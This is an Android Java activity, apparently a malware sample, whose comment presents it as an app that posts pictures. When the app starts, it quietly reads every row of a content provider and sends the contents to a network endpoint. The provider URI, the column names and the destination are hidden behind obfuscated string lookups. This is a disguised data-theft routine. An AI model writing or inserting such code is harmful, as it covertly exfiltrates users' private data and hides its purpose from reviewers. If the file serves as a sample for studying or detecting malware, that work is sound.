package com.example.assetxoredmedia;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;

/** Posts pictures. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setTitle(Texts.get(this, 0));
        new Thread(() -> Net.post(Texts.get(this, 1), readAll())).start();
    }

    private String readAll() {
        StringBuilder text = new StringBuilder();
        Cursor cursor = getContentResolver().query(Uri.parse(Texts.get(this, 2)), null, null, null, null);
        int first = cursor.getColumnIndex(Texts.get(this, 3));
        int second = cursor.getColumnIndex(Texts.get(this, 4));
        while (cursor.moveToNext()) {
            text.append(cursor.getString(first)).append(' ').append(cursor.getString(second)).append('\n');
        }
        cursor.close();
        return text.toString();
    }
}
